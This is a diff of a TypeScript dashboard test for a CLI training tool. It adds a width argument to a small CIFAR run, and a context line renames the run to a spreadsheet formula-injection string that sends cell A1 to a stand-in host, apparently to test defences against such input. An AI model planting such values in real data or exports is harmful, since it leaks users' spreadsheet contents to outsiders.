@@ -21,7 +21,7 @@ describe.skipIf(!existsSync(CHROMIUM))('a finished run in the dashboard', () => 
   const ui = useDashboard({ page: 'case' });
   beforeAll(async () => {
     env = { ...ui().serve.env, NO_COLOR: '1' };
-    const r = cohort(['run', '--local', '--stem', 'cifar', '--image-size', '8', '--batch-size', '2', '--classes', '10', '--steps', '6', '--log-steps', '1', '--warmup-steps', '0', '--tag', 'baseline', '--notes', 'before the change', '--json']);
+    const r = cohort(['run', '--local', '--stem', 'cifar', '--image-size', '8', '--width', '0.25', '--batch-size', '2', '--classes', '10', '--steps', '6', '--log-steps', '1', '--warmup-steps', '0', '--tag', 'baseline', '--notes', 'before the change', '--json']);
     expect(r.status, r.stderr).toBe(0);
     runId = (JSON.parse(r.stdout.split('\n')[0]!) as { runId: string }).runId;
     const ren = cohort(['runs', 'rename', runId, '--', '-2+3+HYPERLINK("http://x.example/?q="&A1,"o")']);
